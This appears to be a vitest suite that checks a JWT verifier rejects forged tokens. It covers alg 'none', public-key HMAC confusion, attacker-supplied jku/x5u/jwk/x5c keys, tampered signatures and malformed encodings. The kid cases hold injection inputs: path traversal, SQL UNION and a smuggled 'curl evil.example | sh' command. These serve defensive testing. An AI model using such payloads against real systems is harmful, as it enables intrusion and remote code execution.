import { createHmac, generateKeyPairSync, type KeyObject } from 'node:crypto'
import { CompactEncrypt } from 'jose'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { issueCertificate } from '../../servers/certificates.ts'
import { JwksDouble } from '../../servers/jwks-double.ts'
import { newSigningKey, privateJwk, signAs } from './signing-key.ts'
import { audience, goodClaims, issuer, JwtWorld, noonSeconds, tokenOf } from './world.ts'

let world: JwtWorld
/** A server of the attacker, which nobody may ask. */
let evil: JwksDouble
const mallory = newSigningKey('RS256', 'first')
const other = newSigningKey('RS256', 'second')
const curve = newSigningKey('ES256', 'curve')
const edwards = newSigningKey('EdDSA', 'edwards')

beforeAll(async () => {
  const shared = newSigningKey('RS256', 'first')
  world = await JwtWorld.start({ key: shared, keys: [shared.jwk, other.jwk, curve.jwk, edwards.jwk] })
  evil = await JwksDouble.start([mallory.jwk])
})
afterAll(async () => {
  expect(evil.requests).toEqual([])
  expect(evil.connections).toBe(0)
  await evil[Symbol.asyncDispose]()
  await world[Symbol.asyncDispose]()
})

const refused = async (token: string, fault: string) => expect(await world.verdict(token)).toBe(fault)
const signed = (header: object, claims: object | string = goodClaims) =>
  tokenOf(header, claims, data => world.key.signatureOf(data))

describe('a good token', () => {
  it.each([
    ['RS256', () => world.key],
    ['RS256, another key', () => other],
    ['ES256', () => curve],
    ['EdDSA', () => edwards],
  ])('is accepted with %s', async (_, key) => {
    expect(await world.verdict(world.token({}, {}, key()))).toBe('ACCEPTED')
  })

  it.each([undefined, 'JWT', 'jwt', 'at+jwt', 'AT+JWT', 'application/at+jwt', 'application/jwt'])(
    'is accepted with the type %s',
    async typ => expect(await world.verdict(world.token({}, { typ }))).toBe('ACCEPTED'),
  )

  it('is accepted whatever its header says about where keys are, and nobody asks there', async () => {
    const header = { jku: evil.keysUrl, x5u: evil.keysUrl, jwk: mallory.jwk, x5c: ['AAAA'], x5t: 'AAAA' }
    expect(await world.verdict(world.token({}, header))).toBe('ACCEPTED')
  })
})

describe('no signature', () => {
  const none = [
    'none',
    'None',
    'NONE',
    'nOnE',
    'none ',
    ' none',
    'none\0',
    'ｎｏｎｅ',
    '',
    null,
    undefined,
    0,
    false,
    [],
    {},
  ]
  it.each(
    none.flatMap(
      alg =>
        [
          [alg, 'an empty one'],
          [alg, 'the good one'],
        ] as const,
    ),
  )('as alg %j, with %s', async (alg, which) => {
    const signature = which === 'an empty one' ? null : (data: string) => world.key.signatureOf(data)
    await refused(tokenOf({ alg, kid: 'first' }, goodClaims, signature), signature === null ? 'MALFORMED' : 'INVALID')
  })

  it.each([['RS256'], ['rs256'], ['RS256 '], [['RS256']], [{ alg: 'RS256' }]])('as alg %j, stripped', async alg => {
    await refused(tokenOf({ alg, kid: 'first' }, goodClaims, null), 'MALFORMED')
    if (alg !== 'RS256') await refused(signed({ alg, kid: 'first' }), 'INVALID')
  })

  it('but one that is cut short, made longer, or of zeros', async () => {
    const [header, payload, signature = ''] = world.token().split('.')
    for (const length of [1, 86, 255]) {
      const cut = Buffer.from(signature, 'base64url').subarray(0, length).toString('base64url')
      await refused(`${header}.${payload}.${cut}`, 'INVALID')
    }
    await refused(`${header}.${payload}.${signature}AAAA`, 'INVALID')
    await refused(`${header}.${payload}.${Buffer.alloc(256).toString('base64url')}`, 'INVALID')
  })

  it('but the one of another payload or header', async () => {
    const [header, payload] = world.token({ roles: ['admin'] }).split('.')
    const [, , signature] = world.token().split('.')
    await refused(`${header}.${payload}.${signature}`, 'INVALID')
    const [otherHeader] = world.token({}, { typ: 'JWT' }).split('.')
    const [, goodPayload] = world.token().split('.')
    await refused(`${otherHeader}.${goodPayload}.${signature}`, 'INVALID')
  })
})

describe('the public key as a shared secret', () => {
  const pem = (key: KeyObject, type: 'spki' | 'pkcs1') => key.export({ type, format: 'pem' }).toString()
  const spellings: Readonly<Record<string, () => string | Buffer>> = {
    'PEM (SPKI)': () => pem(world.key.publicKey, 'spki'),
    'PEM (SPKI) without the last line break': () => pem(world.key.publicKey, 'spki').trimEnd(),
    'PEM (SPKI) on one line': () => pem(world.key.publicKey, 'spki').replaceAll('\n', ''),
    'PEM (SPKI) with CRLF': () => pem(world.key.publicKey, 'spki').replaceAll('\n', '\r\n'),
    'PEM (PKCS #1)': () => pem(world.key.publicKey, 'pkcs1'),
    'DER (SPKI)': () => world.key.publicKey.export({ type: 'spki', format: 'der' }),
    'DER (PKCS #1)': () => world.key.publicKey.export({ type: 'pkcs1', format: 'der' }),
    'JWK as published': () => JSON.stringify(world.key.jwk),
    'JWK of the necessary members': () => {
      const { e, kty, n } = world.key.jwk
      return JSON.stringify({ e, kty, n })
    },
    'the key set': () => JSON.stringify({ keys: [world.key.jwk] }),
    'the modulus': () => Buffer.from(String(world.key.jwk['n']), 'base64url'),
    'the text of the modulus': () => String(world.key.jwk['n']),
    nothing: () => '',
  }
  const algorithms = ['HS256', 'HS384', 'HS512', 'hs256']
  it.each(Object.keys(spellings).flatMap(name => algorithms.map(alg => [name, alg] as const)))(
    '%s, with %s',
    async (name, alg) => {
      const secret = spellings[name]?.() ?? ''
      const mac = (data: string) =>
        createHmac(`sha${alg.slice(2)}`, secret)
          .update(data)
          .digest()
      await refused(tokenOf({ alg, kid: 'first', typ: 'JWT' }, goodClaims, mac), 'INVALID')
      await refused(tokenOf({ alg: 'RS256', kid: 'first' }, goodClaims, mac), 'INVALID')
    },
  )

  it('even where the provider publishes a symmetric one', async () => {
    const k = Buffer.from('0123456789abcdef0123456789abcdef')
    const oct = { kty: 'oct', k: k.toString('base64url'), kid: 'first', alg: 'HS256', use: 'sig' }
    await using careless = await JwtWorld.start({ keys: [oct] })
    const mac = (data: string) => createHmac('sha256', k).update(data).digest()
    for (const alg of ['HS256', 'RS256']) {
      expect(await careless.verdict(tokenOf({ alg, kid: 'first' }, goodClaims, mac))).toBe('INVALID')
    }
  })
})

describe('the name of the key', () => {
  const names = {
    'a path': '../../../../../../dev/null',
    'an encoded path': '..%2f..%2fproc/sys/kernel/randomize_va_space',
    SQL: "first' UNION SELECT 'secret' -- ",
    'a command': 'first; curl evil.example | sh',
    'a URL': 'http://127.0.0.1/jwks',
    'a name of every object': '__proto__',
    'a function of every object': 'toString',
    'nothing at all': '',
    'one in other letters': 'FIRST',
    'one with a NUL': 'first\0',
    'one with a blank': 'first ',
  }
  it.each(Object.entries(names))('is %s', async (_, kid) => {
    await refused(
      tokenOf({ alg: 'RS256', kid }, goodClaims, data => mallory.signatureOf(data)),
      'INVALID',
    )
    await refused(signed({ alg: 'RS256', kid }), 'INVALID')
  })

  it.each([
    ['a number', 1],
    ['null', null],
    ['a list', ['first']],
    ['an object', { kid: 'first' }],
    ['huge', 'x'.repeat(5_000)],
  ])('is %s', async (_, kid) => refused(signed({ alg: 'RS256', kid }), 'MALFORMED'))

  it('is the address of a server that has such a key', async () => {
    await refused(
      tokenOf({ alg: 'RS256', kid: evil.keysUrl }, goodClaims, data => mallory.signatureOf(data)),
      'INVALID',
    )
  })

  it('is the right one, with a key of somebody else', async () => {
    await refused(world.token({}, {}, mallory), 'INVALID')
  })

  it('is that of another key of the provider', async () => {
    await refused(world.token({}, { kid: 'second' }), 'INVALID')
    await refused(world.token({}, { kid: 'curve' }), 'INVALID')
  })

  it('is missing, with several keys that fit', async () => {
    await refused(world.token({}, { kid: undefined }), 'INVALID')
  })

  it('is missing, with one key that fits', async () => {
    expect(await world.verdict(world.token({}, { kid: undefined }, curve))).toBe('ACCEPTED')
    await refused(world.token({}, { kid: undefined }, newSigningKey('ES256', 'curve')), 'INVALID')
  })

  it('is that of two keys', async () => {
    await using twice = await JwtWorld.start({ key: world.key, keys: [world.key.jwk, { ...other.jwk, kid: 'first' }] })
    expect(await twice.verdict(twice.token())).toBe('INVALID')
  })
})

describe('a key that comes with the token', () => {
  const { certificate, key } = issueCertificate({ commonName: 'Mallory' })
  const x5c = [certificate.replaceAll(/-----[^-]+-----|\s/g, '')]
  it.each([
    ['jwk', () => ({ jwk: mallory.jwk })],
    ['jwk without kid', () => ({ jwk: mallory.jwk, kid: undefined })],
    ['jku', () => ({ jku: evil.keysUrl })],
    ['jku that begins like the right one', () => ({ jku: `${world.provider.keysUrl}@${evil.url.slice(7)}` })],
    ['x5u', () => ({ x5u: evil.keysUrl })],
    ['x5c', () => ({ x5c })],
    ['all of them', () => ({ jwk: mallory.jwk, jku: evil.keysUrl, x5u: evil.keysUrl, x5c, kid: 'mallory' })],
  ])('as %s', async (_, header) => refused(world.token({}, header(), mallory), 'INVALID'))

  it('as x5c, signed with the key of the certificate', async () => {
    expect(key).toContain('PRIVATE KEY')
    const ec = newSigningKey('ES256', 'x')
    await refused(world.token({}, { x5c, kid: 'x' }, ec), 'INVALID')
  })
})

describe('extensions', () => {
  it.each([
    ['crit of what is not known', { crit: ['http://example.com/x'], 'http://example.com/x': true }],
    ['crit of a claim', { crit: ['exp'], exp: noonSeconds + 60 }],
    ['crit of nothing', { crit: [] }],
    ['crit that is no list', { crit: 'b64' }],
    ['crit that is null', { crit: null }],
    ['b64', { b64: true }],
    ['b64 with crit', { b64: true, crit: ['b64'] }],
    ['b64 that is false, without crit', { b64: false }],
  ])('%s', async (_, header) => refused(world.token({}, header), 'INVALID'))

  it('an unencoded payload', async () => {
    const header = Buffer.from(JSON.stringify({ alg: 'RS256', kid: 'first', b64: false, crit: ['b64'] })).toString(
      'base64url',
    )
    const { iss, ...rest } = goodClaims
    const payload = JSON.stringify({ iss: iss.replaceAll('.', '\\u002e'), ...rest }).replaceAll('.', '\\u002e')
    const signature = world.key.signatureOf(`${header}.${payload}`).toString('base64url')
    await refused(`${header}.${payload}.${signature}`, 'MALFORMED')
    const encoded = Buffer.from(payload).toString('base64url')
    await refused(
      `${header}.${encoded}.${world.key.signatureOf(`${header}.${encoded}`).toString('base64url')}`,
      'INVALID',
    )
  })
})

describe('what is no signed token', () => {
  it('encrypted for the public key', async () => {
    const inner = new TextEncoder().encode(world.token())
    const jwe = await new CompactEncrypt(inner)
      .setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', cty: 'JWT', kid: 'first' })
      .encrypt(world.key.publicKey)
    expect(jwe.split('.')).toHaveLength(5)
    await refused(jwe, 'MALFORMED')
    await refused(jwe.split('.').slice(0, 3).join('.'), 'MALFORMED')
  })

  it('a token within a token', async () => {
    const header = { alg: 'RS256', kid: 'first', cty: 'JWT' }
    await refused(signed(header, world.token()), 'MALFORMED')
    await refused(signed(header, JSON.stringify(world.token())), 'MALFORMED')
  })

  it('a JSON serialization', async () => {
    const [header, payload, signature] = world.token().split('.')
    await refused(JSON.stringify({ payload, protected: header, signature }), 'MALFORMED')
    await refused(JSON.stringify({ payload, signatures: [{ protected: header, signature }] }), 'MALFORMED')
  })

  it('too few or too many parts', async () => {
    const token = world.token()
    for (const text of ['', '.', '..', '...', `${token}.`, `.${token}`, `${token}.AAAA`, `${token}.${token}`, 'a.b']) {
      await refused(text, 'MALFORMED')
    }
  })

  it('1 MB, and the first byte too many', async () => {
    await refused(world.token({ padding: 'x'.repeat(1_000_000) }), 'MALFORMED')
    await refused(`${world.token()}.${'A'.repeat(1_000_000)}`, 'MALFORMED')
    const base = world.token().length
    const fits = world.token({ padding: 'x'.repeat(Math.floor(((8_192 - base - 20) * 3) / 4)) })
    expect(fits.length).toBeLessThanOrEqual(8_192)
    expect(await world.verdict(fits)).toBe('ACCEPTED')
    const long = world.token({ padding: 'x'.repeat(Math.ceil(((8_192 - base) * 3) / 4)) })
    expect(long.length).toBeGreaterThan(8_192)
    await refused(long, 'MALFORMED')
  })

  it.each([
    ['a list', '[]'],
    ['null', 'null'],
    ['a text', '"x"'],
    ['nothing', ''],
    ['no JSON', '{"iss": '],
    ['JSON with a remainder', `${JSON.stringify(goodClaims)}{}`],
    ['JSON with a byte order mark', `\uFEFF${JSON.stringify(goodClaims)}`],
  ])('claims or a header that are %s', async (_, text) => {
    await refused(signed({ alg: 'RS256', kid: 'first' }, text), 'MALFORMED')
    await refused(
      tokenOf(text, goodClaims, data => world.key.signatureOf(data)),
      'MALFORMED',
    )
  })

  it('claims that are no UTF-8', async () => {
    const header = Buffer.from(JSON.stringify({ alg: 'RS256', kid: 'first' })).toString('base64url')
    const bytes = Buffer.from(JSON.stringify(goodClaims).replace('Ada', 'A\xffa'), 'latin1').toString('base64url')
    const signature = world.key.signatureOf(`${header}.${bytes}`).toString('base64url')
    await refused(`${header}.${bytes}.${signature}`, 'MALFORMED')
  })
})

describe('other spellings of base64url', () => {
  const respelled: Readonly<Record<string, (part: string) => string>> = {
    padding: part => `${part}=`,
    'two of padding': part => `${part}==`,
    'a space at the end': part => `${part} `,
    'a space before': part => ` ${part}`,
    'a space within': part => `${part.slice(0, 5)} ${part.slice(5)}`,
    'a line break': part => `${part.slice(0, 5)}\n${part.slice(5)}`,
    'a tab': part => `${part}\t`,
    'garbage at the end': part => `${part}!`,
    'garbage within': part => `${part.slice(0, 4)}*${part.slice(4)}`,
    'a NUL': part => `${part}\0`,
    'one character too many': part => `${part}${'A'.repeat((5 - (part.length % 4)) % 4)}`,
    'percent encoding': part => `%${part.charCodeAt(0).toString(16)}${part.slice(1)}`,
    'letters of another script': part => part.replace('e', 'е'),
  }
  it.each(Object.keys(respelled).flatMap(name => [0, 1, 2].map(index => [name, index] as const)))(
    '%s in part %i',
    async (name, index) => {
      const parts = world.token({}, {}).split('.')
      const changed = parts.map((part, at) => (at === index ? (respelled[name]?.(part) ?? '') : part))
      if (changed.join('.') === parts.join('.')) changed[index] = `${changed[index]}е`
      await refused(changed.join('.'), 'MALFORMED')
    },
  )

  it('the other alphabet', async () => {
    let token = world.token()
    for (let count = 0; !/[-_]/.test(token.split('.')[2] ?? ''); count += 1) token = world.token({ count })
    await refused(token.replaceAll('-', '+').replaceAll('_', '/'), 'MALFORMED')
  })

  it('bits that stand for nothing', async () => {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
    const token = world.token()
    const last = alphabet.indexOf(token.at(-1) ?? '')
    // 256 bytes leave four bits of the last character over.
    for (let bits = 1; bits < 16; bits += 1) await refused(`${token.slice(0, -1)}${alphabet[last ^ bits]}`, 'MALFORMED')
  })
})

describe('two claims of one name', () => {
  const text = JSON.stringify(goodClaims)
  it.each([
    ['an audience before the right one', text.replace('{', '{"aud":"https://other.example.com",')],
    ['an audience after the right one', text.replace(/}$/, ',"aud":"https://other.example.com"}')],
    ['the right audience twice', text.replace('{', `{"aud":"${audience}",`)],
    ['a workspace after the right one', text.replace(/}$/, ',"workspace":"south"}')],
    ['one that is written otherwise', text.replace(/}$/, ',"w\\u006frkspace":"south"}')],
    ['one within another one', text.replace(/}$/, ',"app":{"roles":[],"roles":["admin"]}}')],
    ['one in a list', text.replace(/}$/, ',"app":[{"a":1},{"b":1,"b":2}]}')],
  ])('%s', async (_, payload) => refused(signed({ alg: 'RS256', kid: 'first' }, payload), 'MALFORMED'))

  it('in the header', async () => {
    const claims = JSON.stringify(goodClaims)
    await refused(signed('{"alg":"none","alg":"RS256","kid":"first"}' as never, claims), 'MALFORMED')
    await refused(signed('{"alg":"RS256","kid":"second","kid":"first"}' as never, claims), 'MALFORMED')
  })

  it('but not of one name in several places, or in texts', async () => {
    const claims = {
      ...goodClaims,
      a: { aud: 1, sub: 2 },
      b: [{ aud: 1 }, { aud: 2 }],
      c: '{"aud":1,"aud":2}',
      d: '\\"x\\":',
    }
    expect(await world.verdict(world.token(claims))).toBe('ACCEPTED')
  })
})

describe('another issuer', () => {
  it.each([
    `${issuer}/`,
    `${issuer}.evil.example`,
    `${issuer}?`,
    issuer.slice(0, -1),
    issuer.toUpperCase(),
    issuer.replace('https', 'http'),
    ` ${issuer}`,
    `${issuer}\0`,
    'https://evil.example',
    '',
    null,
    undefined,
    [issuer],
    { iss: issuer },
  ])('%j', async iss => refused(world.token({ iss }), 'INVALID'))
})

describe('another audience', () => {
  it.each([
    `${audience}/`,
    `${audience}.evil.example`,
    audience.slice(0, -1),
    audience.toUpperCase(),
    'https://other.example.com',
    '*',
    '',
    null,
    undefined,
    0,
    [],
    ['https://other.example.com'],
    [[audience]],
    [{ aud: audience }],
    { 0: audience, length: 1 },
    `${audience} https://other.example.com`,
  ])('%j', async aud => refused(world.token({ aud }), 'INVALID'))

  it('but not one of several', async () => {
    expect(await world.verdict(world.token({ aud: ['https://other.example.com', audience] }))).toBe('ACCEPTED')
    await using several = await JwtWorld.start({ settings: { audiences: ['api://patchbay', audience] } })
    expect(await several.verdict(several.token())).toBe('ACCEPTED')
    expect(await several.verdict(several.token({ aud: 'api://patchbay' }))).toBe('ACCEPTED')
    expect(await several.verdict(several.token({ aud: 'patchbay' }))).toBe('INVALID')
  })
})

describe('another time', () => {
  it.each([
    ['exp', -30, 'EXPIRED'],
    ['exp', -29, 'ACCEPTED'],
    ['exp', -3_600, 'EXPIRED'],
    ['nbf', 30, 'ACCEPTED'],
    ['nbf', 31, 'INVALID'],
    ['nbf', 3_600, 'INVALID'],
    ['iat', 30, 'ACCEPTED'],
    ['iat', 31, 'INVALID'],
    ['iat', 3_600, 'INVALID'],
  ])('%s of %i seconds from now is %s', async (claim, seconds, verdict) => {
    expect(await world.verdict(world.token({ [claim]: noonSeconds + seconds }))).toBe(verdict)
  })

  it.each([undefined, null, '', String(noonSeconds + 60), true, [noonSeconds + 60], { exp: noonSeconds + 60 }])(
    'exp is %j',
    async exp => refused(world.token({ exp }), 'INVALID'),
  )

  it.each(['1e400', '-1e400', '1e300', '9007199254740993'])('exp is %s', async exp => {
    const payload = JSON.stringify(goodClaims).replace(/"exp":\d+/, `"exp":${exp}`)
    const verdict = await world.verdict(signed({ alg: 'RS256', kid: 'first' }, payload))
    expect(['INVALID', 'EXPIRED']).toContain(verdict)
  })

  it.each(['nbf', 'iat'])('%s is no number', async claim => {
    for (const value of [null, '', String(noonSeconds), true, [noonSeconds]]) {
      await refused(world.token({ [claim]: value }), 'INVALID')
    }
  })

  it('but not when nothing is said of its beginning', async () => {
    expect(await world.verdict(world.token({ nbf: undefined, iat: undefined }))).toBe('ACCEPTED')
  })
})

describe('another kind of token', () => {
  it.each([
    'logout+jwt',
    'dpop+jwt',
    'secevent+jwt',
    'JOSE',
    'JOSE+JSON',
    'jwt ',
    'id_token',
    '',
    null,
    1,
    ['JWT'],
    'application/logout+jwt',
  ])('of the type %j', async typ => refused(world.token({}, { typ }), 'INVALID'))

  it.each([
    ['an ID token', { at_hash: 'x' }],
    ['an ID token with a code', { c_hash: 'x' }],
    ["Keycloak's ID token", { typ: 'ID' }],
    ["Keycloak's refresh token", { typ: 'Refresh' }],
    ["Keycloak's logout token", { typ: 'Logout' }],
    ["Cognito's ID token", { token_use: 'id' }],
    ['a logout token', { events: { 'http://schemas.openid.net/event/backchannel-logout': {} } }],
    ['one that is bound to a key', { cnf: { jkt: 'x' } }],
    ['one that is bound to a certificate', { cnf: { 'x5t#S256': 'x' } }],
  ])('%s', async (_, claims) => refused(world.token(claims), 'INVALID'))

  it('but not an access token of Keycloak or Cognito', async () => {
    expect(await world.verdict(world.token({ typ: 'Bearer' }))).toBe('ACCEPTED')
    expect(await world.verdict(world.token({ token_use: 'access' }))).toBe('ACCEPTED')
  })
})

describe('signatures of elliptic curves', () => {
  const order = 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551'
  const zeros = '0'.repeat(64)
  const one = `${'0'.repeat(63)}1`
  it.each([
    ['r and s are 0', zeros + zeros],
    ['r is 0', zeros + one],
    ['s is 0', one + zeros],
    ['r and s are the order', order + order],
    ['r and s are 1', one + one],
    ['r is the order and s is 0', order + zeros],
    ['all bits are set', 'f'.repeat(128)],
  ])('%s', async (_, hex) => {
    await refused(
      tokenOf({ alg: 'ES256', kid: 'curve' }, goodClaims, () => Buffer.from(hex, 'hex')),
      'INVALID',
    )
  })

  it.each([
    ['DER in the place of two numbers', (data: string) => derOf(data)],
    ['DER of zeros', () => Buffer.from('3006020100020100', 'hex')],
    ['63 bytes', (data: string) => curve.signatureOf(data).subarray(1)],
    ['65 bytes', (data: string) => Buffer.concat([Buffer.alloc(1), curve.signatureOf(data)])],
  ])('%s', async (_, signatureOf) =>
    refused(tokenOf({ alg: 'ES256', kid: 'curve' }, goodClaims, signatureOf), 'INVALID'),
  )

  it.each(['00'.repeat(64), `01${'00'.repeat(63)}`, 'ff'.repeat(64)])('of Ed25519, %s', async hex => {
    await refused(
      tokenOf({ alg: 'EdDSA', kid: 'edwards' }, goodClaims, () => Buffer.from(hex, 'hex')),
      'INVALID',
    )
  })

  function derOf(data: string): Buffer {
    const raw = curve.signatureOf(data)
    const integer = (bytes: Buffer) => Buffer.concat([Buffer.from([2, 33, 0]), bytes])
    const body = Buffer.concat([integer(raw.subarray(0, 32)), integer(raw.subarray(32))])
    return Buffer.concat([Buffer.from([0x30, body.length]), body])
  }
})

describe('keys that do not go with the algorithm', () => {
  const all = ['RS256', 'PS256', 'ES256', 'ES384', 'EdDSA'] as const
  const verdictWith = async (jwk: object, token: string) => {
    await using lax = await JwtWorld.start({ keys: [jwk], settings: { algorithms: [...all] } })
    return await lax.verdict(token)
  }
  const p384 = newSigningKey('ES384', 'p384')
  const secp256k1 = generateKeyPairSync('ec', { namedCurve: 'secp256k1' })

  it('another curve, by the key', async () => {
    const asked = (alg: string, key: KeyObject) =>
      tokenOf({ alg, kid: 'p384' }, goodClaims, data => signAs(alg, data, key))
    expect(await verdictWith({ ...p384.jwk, alg: undefined }, asked('ES384', p384.privateKey))).toBe('ACCEPTED')
    expect(await verdictWith({ ...p384.jwk, alg: undefined }, asked('ES256', p384.privateKey))).toBe('INVALID')
    const koblitz = { ...secp256k1.publicKey.export({ format: 'jwk' }), kid: 'p384' }
    expect(await verdictWith(koblitz, asked('ES256', secp256k1.privateKey))).toBe('INVALID')
    expect(await verdictWith({ ...koblitz, crv: 'P-256' }, asked('ES256', secp256k1.privateKey))).toBe('INVALID')
  })

  it('a point that is on no curve', async () => {
    const token = world.token({}, {}, curve)
    expect(await verdictWith(curve.jwk, token)).toBe('ACCEPTED')
    const zero = Buffer.alloc(32).toString('base64url')
    for (const point of [
      { x: zero, y: zero },
      { x: curve.jwk['y'], y: curve.jwk['x'] },
      { y: zero },
      { x: 'AA' },
      { y: undefined },
    ]) {
      expect(await verdictWith({ ...curve.jwk, ...point }, token)).toBe('INVALID')
    }
  })

  it('one padding for another one', async () => {
    const pss = {
      ...world.key,
      alg: 'PS256',
      signatureOf: (data: string) => signAs('PS256', data, world.key.privateKey),
    }
    const unnamed = { ...world.key.jwk, alg: undefined }
    expect(await verdictWith(unnamed, world.token({}, {}, pss))).toBe('ACCEPTED')
    // The key is for RS256.
    expect(await verdictWith(world.key.jwk, world.token({}, {}, pss))).toBe('INVALID')
    // The header says one, the signature is of the other.
    expect(await verdictWith(unnamed, world.token({}, { alg: 'RS256' }, pss))).toBe('INVALID')
    expect(await verdictWith(unnamed, world.token({}, { alg: 'PS256' }))).toBe('INVALID')
    // It is not in the list.
    await refused(world.token({}, {}, pss), 'INVALID')
  })

  it('an algorithm that is not in the list', async () => {
    for (const alg of ['RS384', 'RS512', 'ES384', 'Ed25519', 'RS1', 'RSA1_5', 'dir']) {
      await refused(world.token({}, { alg }), 'INVALID')
    }
  })

  it('an RSA key of 1024 bits', async () => {
    const small = newSigningKey('RS256', 'small', 1024)
    expect(await verdictWith(small.jwk, world.token({}, {}, small))).toBe('INVALID')
  })

  it('one that is for something else', async () => {
    const token = world.token()
    expect(await verdictWith({ ...world.key.jwk, key_ops: ['verify'] }, token)).toBe('ACCEPTED')
    const others = [
      { use: 'enc' },
      { use: 'SIG' },
      { key_ops: ['encrypt'] },
      { key_ops: ['sign'] },
      { key_ops: [] },
      { key_ops: 'verify' },
      { key_ops: ['verify', 'verify'] },
      { alg: 'RSA-OAEP' },
      { alg: 'RS512' },
      { kty: 'EC' },
      { kty: 'oct' },
      { n: undefined },
      { e: 'AA' },
    ]
    for (const change of others) expect(await verdictWith({ ...world.key.jwk, ...change }, token)).toBe('INVALID')
  })

  it('a private one that was published', async () => {
    expect(await verdictWith(privateJwk(world.key), world.token())).toBe('INVALID')
  })
})
